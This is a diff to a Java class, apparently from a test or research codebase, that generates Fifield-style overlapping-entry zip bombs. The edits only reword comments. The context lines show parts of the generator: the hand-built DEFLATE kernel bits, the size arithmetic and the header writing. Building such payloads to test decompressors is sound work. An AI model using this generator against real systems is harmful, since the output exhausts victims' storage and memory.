@@ -11,15 +11,15 @@ import java.nio.file.Path;
 import java.util.Arrays;
 
 /**
- * A zip bomb of entries that share bytes (Fifield, "A better zip bomb", WOOT 2019): each entry quotes the local header
- * of the next in a stored block, and goes on with its data; all end in one kernel of zeros, 1032 from a byte. Of the
- * numbers only the CRC-32 are not true.
+ * Writes a zip bomb of overlapping entries (Fifield, "A better zip bomb", WOOT 2019). Each entry quotes the local
+ * header of the next one in a stored block, and continues with its data. All end in one kernel of zeros, with 1032
+ * decoded bytes per byte. Only the CRC-32 values are wrong.
  */
 public final class OverlapBomb {
     private static final int LOCAL_BYTES = 30;
     private static final int QUOTE_BYTES = 5;
 
-    /** One dynamic block: length 258 and distance 1 have a code of one zero bit each; begins with the literal 0. */
+    /** Start of a dynamic block whose codes of length 258 and distance 1 are one zero bit each; a literal 0 first. */
     private static final String KERNEL_START = "1" + "01" + "10111" + "00000" + "0111" // final, dynamic, 286, 1, 18
             + "000000" + "100" + "000".repeat(12) + "010" + "000" + "010" // lengths of the codes of 18, 2 and 1
             + "11" + "0" + "1111111" + "0" + "0101011" // the literal 0; none of 255
@@ -29,7 +29,7 @@ public final class OverlapBomb {
     private final int files;
     private final long kernelBytes;
 
-    /** @param kernelBytes of zero bits in the kernel, besides its start and end */
+    /** @param kernelBytes bytes of zero bits in the kernel, without its start and end */
     public OverlapBomb(int files, int kernelBytes) {
         this.files = files;
         this.kernelBytes = kernelBytes;
@@ -47,13 +47,13 @@ public final class OverlapBomb {
         return (long) (files - 1 - i) * (QUOTE_BYTES + headerBytes()) + kernelStart().length + kernelBytes + 1;
     }
 
-    /** Decoded bytes of one entry. */
+    /** Decoded size of one entry. */
     public long size(int i) {
         long bits = (kernelStart().length + kernelBytes) * 8 - KERNEL_START.length() + 1;
         return (long) (files - 1 - i) * headerBytes() + 1 + bits / 2 * 258;
     }
 
-    /** Decoded bytes of all. */
+    /** Decoded size of all entries. */
     public double total() {
         double total = 0;
         for (int i = 0; i < files; i++) {
@@ -83,7 +83,7 @@ public final class OverlapBomb {
             for (long i = 0; i < kernelBytes; i++) {
                 out.write(0);
             }
-            // One more zero makes the last pair whole; then the end of the block.
+            // One more zero bit completes the last pair; then the end of the block.
             out.write(0b110);
             long directory =
                     (long) files * headerBytes() + (files - 1L) * QUOTE_BYTES + kernelStart().length + kernelBytes + 1;
@@ -108,7 +108,7 @@ public final class OverlapBomb {
         return ByteBuffer.allocate(bytes).order(ByteOrder.LITTLE_ENDIAN);
     }
 
-    /** Sizes follow the data, says the header, so that it is short; nobody quotes what follows. */
+    /** A local header marked as having its sizes after the data, so that it can stay short. */
     private static byte[] local(int i) {
         ByteBuffer out = buffer(headerBytes());
         out.putInt(0x04034b50).putShort((short) 45).putShort((short) 8).putShort((short) 8);
